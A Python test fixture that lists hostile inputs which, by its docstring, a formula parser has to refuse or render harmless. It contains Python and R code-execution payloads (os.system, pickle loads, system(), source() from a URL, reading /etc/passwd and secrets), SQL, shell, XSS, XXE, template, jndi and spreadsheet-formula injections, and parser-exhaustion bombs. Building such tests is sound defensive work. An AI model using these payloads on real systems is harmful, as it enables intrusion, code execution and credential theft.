"""Texts that nobody should send as a formula, and that have to be refused or harmless."""

from __future__ import annotations

PYTHON = """
__import__("os").system("touch pwned")
__import__('os').popen('id').read()
eval("1+1")
exec("import os")
compile("1", "", "eval")
open("pwned", "w").write("x")
open('/etc/passwd').read()
os.system("touch pwned")
subprocess.Popen(["sh", "-c", "touch pwned"])
getattr(x, "__class__")
setattr(x, "a", 1)
globals()
locals()
vars()
dir()
breakpoint()
help()
input()
exit()
quit()
().__class__.__base__.__subclasses__()
"".__class__.__mro__[1].__subclasses__()
x.__class__
x.__class__.__init__.__globals__
x.values.tofile("pwned")
x.to_csv("pwned")
x.shift(1)
x.anything()
np.load("pwned", allow_pickle=True)
np.__dict__["__builtins__"]["__import__"]("os")
numpy.save("pwned", x)
pd.read_pickle("pwned")
pickle.loads(b"cos\\nsystem\\n(S'touch pwned'\\ntR.")
lambda: 0
(lambda x: x)(1)
[i for i in range(9)]
{i: i for i in x}
(i for i in x)
x if y else z
x and y or not z
import os
from os import system
def f(): pass
class A: pass
while True: pass
for i in x: pass
try: 1/0
assert False
del x
raise SystemExit
yield x
await x
async def f(): pass
with open("pwned", "w") as f: f.write("x")
x := 1
(x := open("pwned", "w"))
f"{open('pwned','w')}"
f'{x!r}'
rb"bytes"
u"x"
x[0]
x[::-1]
x["__class__"]
{"a": 1}
{1, 2}
*x
**x
@decorator
x; open("pwned", "w")
x\nopen("pwned", "w")
x # comment
'''x'''
\"\"\"x\"\"\"
0x7fffffff
0b1010
0o777
1_000_000
1j
...
print("x", file=open("pwned", "w"))
type("X", (), {})
object()
super()
memoryview(x)
bytes(10**10)
bytearray(10**10)
range(10**18)
"x" * 10**10
10**10**10
9**9**9**9
chr(0x41)
Q("x")
Treatment("a")
demo_data("x")
stateful_transform(x)
builtins
__builtins__
__name__
__file__
__doc__
_x
__
""".strip().splitlines()

R = """
system("touch pwned")
system2("touch", "pwned")
shell("touch pwned")
file.create("pwned")
writeLines("x", "pwned")
cat("x", file = "pwned")
sink("pwned")
unlink("/", recursive = TRUE)
source("http://example.com/x.R")
download.file("http://example.com", "pwned")
url("http://example.com")
readLines("/etc/passwd")
read.csv("/etc/passwd")
load("pwned")
readRDS("pwned")
saveRDS(x, "pwned")
eval(parse(text = "1"))
evalq(x)
do.call("system", list("touch pwned"))
get("system")("touch pwned")
match.fun("system")
Sys.setenv(A = "b")
Sys.getenv("SECRET")
library(stats)
require(stats)
install.packages("x")
base::system("touch pwned")
base:::system("touch pwned")
utils::download.file("x", "y")
stats::lm(y ~ x)
x <- 1
x <<- 1
1 -> x
x = 1
assign("x", 1)
function(x) x
\\(x) x
if (TRUE) x else y
repeat {}
while (TRUE) {}
for (i in 1:10) x
{x; y}
x$y
x@y
x[1]
x[[1]]
?x
x |> f()
x %o% y
x %>% f
x %x% y
%in%
x := y
`system`("touch pwned")
`if`(TRUE, x)
`<-`(x, 1)
`(`(x)
NULL
NA
NaN
Inf
-Inf
TRUE
NA_integer_
T <- 0
quote(x)
substitute(x)
bquote(.(x))
Recall()
environment()
globalenv()
.GlobalEnv
.Machine
.Internal(x)
.Call("x")
.External("x")
dyn.load("x.so")
rep(1, 1e10)
numeric(1e10)
matrix(0, 1e5, 1e5)
seq(1, 1e10)
1:1e10
outer(x, x)
cbind(y, x)
rnorm(1e10)
model.matrix(~ x)
poly(x, 1e9)
poly(x, -1)
poly(x, 2, 3, 4)
poly(x, degree = Inf)
poly(x, 1.5)
poly()
bs(x, df = 1e9)
bs(x, df = -1)
bs(x, df = Inf)
bs(x, knots = c(Inf, -Inf))
bs(x, knots = x)
bs(x, degree = 1e9)
bs(x, Boundary.knots = c(1, 1))
bs(x, knots = c())
ns(x, df = 0)
ns(x, knots = "a")
lag(x, 1e300)
lag(x, Inf)
lag(x, -1e18)
lag(lag(lag(x, 9), 9), 9)
cut(x, 1e9)
cut(x, Inf)
cut(x, -1)
cut(x, c(Inf, -Inf))
cut(x, "a")
cut(x, 3, dig.lab = 1e9)
cut(x, 3, labels = c("a"))
factor(x, levels = c())
factor(x, levels = c(1, 1))
factor(x, labels = "a")
factor(y ~ x)
C(x, 1e9)
C(g, treatment, base = 1e9)
C(g, treatment, base = -1)
C(g, "contr.__class__")
relevel(g, ref = 1e9)
relevel(x, ref = "__class__")
scale(x, center = "a")
scale(x, center = Inf)
scale(x, scale = 0)
scale(x, scale = -1)
log(x, base = 0)
log(x, base = -1)
log(0)
log(-1)
I()
I(x, y)
I(1/0)
I(x/0)
I(0/0)
I(x %% 0)
I(x^1e308)
I(2^1e9)
I(exp(exp(exp(x))))
I(x == "__class__")
I(g == 1)
I("a" + 1)
I("a" == "a")
I(g < "b")
I(TRUE + "a")
ifelse(x)
ifelse(1, 2, 3)
ifelse(g, g, g)
ifelse(x > 1, c("a", "b"), "c")
offset()
offset("x")
offset(g)
offset(x):g
offset(x)^2
pmin()
pmax("a", "b")
c()
c(c(c(1)))
mean(g)
sd(1)
""".strip().splitlines()

ELSEWHERE = r"""
'; DROP TABLE results; --
1; DELETE FROM keys
1 OR 1=1
x' OR 'a'='a
UNION SELECT * FROM keys
pg_sleep(10)
COPY keys TO PROGRAM 'touch pwned'
$(touch pwned)
`touch pwned`
| touch pwned
&& touch pwned
; touch pwned
> pwned
../../../etc/passwd
file:///etc/passwd
http://169.254.169.254/latest/meta-data/
<script>alert(1)</script>
"><img src=x onerror=alert(1)>
javascript:alert(1)
<?php system("touch pwned"); ?>
<!ENTITY x SYSTEM "file:///etc/passwd">
{{ 7 * 7 }}
{{ config.items() }}
{% raw %}
${7*7}
#{7*7}
${jndi:ldap://example.com/a}
%s%s%s%s%n
%x %d %p
%(x)s
{0.__class__}
{x!r:>99999999999}
{:>1000000000}
{"$gt": ""}
=cmd|'/C calc'!A0
@SUM(1+1)*cmd
-2+3+cmd|' /C calc'!A0
(?P<x>(a+)+$)
^(a+)+$
.*.*.*.*.*.*
\0
\x00
\u0000
\N{LATIN SMALL LETTER A}
\\\\server\share
%00
&#0;
&lt;
CON
NUL
/dev/zero
""".strip().splitlines()

UNICODE = [
    "\x00", "x\x00", "\x00x", "`x\x00`", '"\x00"', "\x01\x02\x03", "\x07", "\x08", "\x1b[31mred\x1b[0m", "\x7f", "\x80", "\x9b",
    "\u200b", "x\u200by", "\u200d", "\u200e", "\u202e", "x\u202eevil", "\u2066x\u2069", "\ufeffx", "\ufffe", "\uffff", "\ufffd",
    "\ud800", "\udfff", "\ud83d", "`\ud800`", '"\udfff"', "\U000e0001", "\U0010ffff", "\U0001f4a9", "`\U0001f4a9`", "e\u0301",
    "`e\u0301`", "ｘ", "ｅｖａｌ", "𝐱", "ℯ", "ⅷ", "²", "x²", "½", "١٢٣", "९", "𝟗", "ﬁ", "ẞ", "İ", "ı", "Σς", "᾽", "׳", "（x）",
    "x＋y", "x∗y", "x×y", "x÷y", "x−y", "x–y", "x—y", "x∼y", "‘x’", "“x”", "„x“", "«x»", "x：y", "x；y", "x，y", "¬x", "x≤y",
    "x≠y", "∞", "∑x", "√x", "x′", "…", "·", "•", "\u2028", "\u2029", "x\u2028y", "\u0085", "\u00a0", "\u3000", "\u115f",
    "\u3164", "\u180e", "a" + "\u0300" * 500, "\u0600", "\u061c", "ｏｐｅｎ('pwned','w')", "___", "\t\t\t", "\r\n\r\n", "\v\f",
]  # fmt: skip

LETTERS = "+".join("abcdefghijklmnopqrstuvwxyz")
BOMBS = [
    f"({LETTERS})**5", f"({LETTERS})^5", f"({LETTERS})^99999", f"({LETTERS})*({LETTERS})*({LETTERS})",
    f"({LETTERS}):({LETTERS}):({LETTERS})", f"({LETTERS})/({LETTERS})/({LETTERS})", f"({LETTERS})%in%({LETTERS})",
    f"(({LETTERS})^2)^2", "(((x+g)^5)^5)^5", "*".join("abcdefghijklmnop"), ":".join("abcdefghijklmnop"), ".^5", ".*.*.*.*.",
    ".:.:.:.", "./././.", "(.)^2", ".^99999", ".^.", "x^99999", "x^1e308", "x^0", "x^-1", "x^x", "x^0.5", "x^x^x^x", "(" * 900,
    ")" * 900, "(" * 900 + "x" + ")" * 900, "(" * 49 + "x" + ")" * 49, "[" * 900, "{" * 900, "-" * 1900 + "x", "+" * 1900 + "x",
    "!" * 1900 + "x", "~" * 1900, "- " * 900 + "x", "!" * 40 + "x", "x" + "^x" * 900, "x" + "^2" * 900, "x" + "+x" * 900,
    "x" + "*x" * 900, "x" + ":x" * 900, "x" + "/x" * 900, "x" + "-x" * 900, "x" + "%in%x" * 300, "x" + "|x" * 900,
    "(1|" * 300 + "g" + ")" * 300, "(1|g)" * 300, "+".join(["(1|g)"] * 300), "log(" * 400 + "x" + ")" * 400,
    "log(" * 40 + "x" + ")" * 40, "I(" * 45 + "x" + ")" * 45, "ifelse(" * 40 + "x" + ",1,2)" * 40,
    "ifelse(x>1,1," * 40 + "x" + ")" * 40, "(1<" * 20 + "x" + ")" * 20, "c(" * 40 + "1" + ")" * 40,
    "c(" + ",".join(["1"] * 900) + ")", "pmax(" + ",".join(["x"] * 900) + ")", "log(" + ",".join(["x"] * 900) + ")",
    "cut(x, c(" + ",".join(map(str, range(400))) + "))", "bs(x, knots = c(" + ",".join(["3"] * 900) + "))",
    "+".join(["bs(x, 50)"] * 150), ":".join(["bs(x, 50)", "ns(x, 50)", "poly(x, 20)"]), "*".join(["bs(x, 50)", "ns(x, 49)"]),
    "+".join(f"I(x^{i})" for i in range(200)), "+".join(f"poly(x, {i})" for i in range(1, 150)),
    "I(" + "+".join(["x"] * 900) + ")", "I(" + "^".join(["x"] * 40) + ")", "`" * 1999, '"' * 1999, "'" * 1999,
    "`" + "x" * 1900 + "`", "x" * 1900, '"' + "\\" * 1001 + '"', '"' + "\\n" * 900 + '"', "." * 1900, "_" * 1900, "9" * 1900,
    "0." + "0" * 1900 + "1", "1e999", "1e-999", "1e" + "9" * 1000, "0" * 1900, "1" * 308, "1" * 400, "I(x * " + "9" * 300 + ")",
    "1" + "+1" * 900, "0" + "+0" * 900, "-1" * 900, "x y " * 400, ", " * 900, "x" * 3000, "(" * 3000, " " * 1990, "\n" * 1990,
    "x~" * 900, "", " ", "~", "~ ~", "y", "1", "0", ".", "-", "+", "()", "(())", "( )", "x +", "+ x +", "x ++ x", "x **", "x ^",
    "x :", ": x", "x : : x", "x :: x", "x ::: x", "x,y", "x=y", "=", "==", "x ==", "!x", "x & y", "x && y", "| x", "x ||",
    "(x ||)", "(| g)", "(1 |)", "(1 | g | h)", "x | g", "%", "%%", "%/%", "x %in%", "%in% x", "x % y", "x %in y", "x!y", "x!!y",
    "`", "``", "` `", '""', "''", '"x"', "'x'", '"x" + "y"', "f(", "f)", "f(,)", "f(x,)", "log(x", "log x)", "log((x)",
    "log(,x)", "log(x=)", "log(=x)", "log(x==)", "log(`x`=x)", "splines::", "::bs(x)", "splines::x", "a::b::c(x)",
    "base::log(base::exp(x))", "evil::log(x)", "os::system(x)", "y", "y:x", "y*x", "-y", "log(y)+y",
]  # fmt: skip

PAYLOADS = [*PYTHON, *R, *ELSEWHERE, *UNICODE, *BOMBS]
HOSTILE = [
    *dict.fromkeys(
        form.replace("{}", payload) for payload in PAYLOADS for form in ("{}", "y ~ {}", "y ~ x + I({})", "{} ~ x", "y ~ log({})")
    )
]
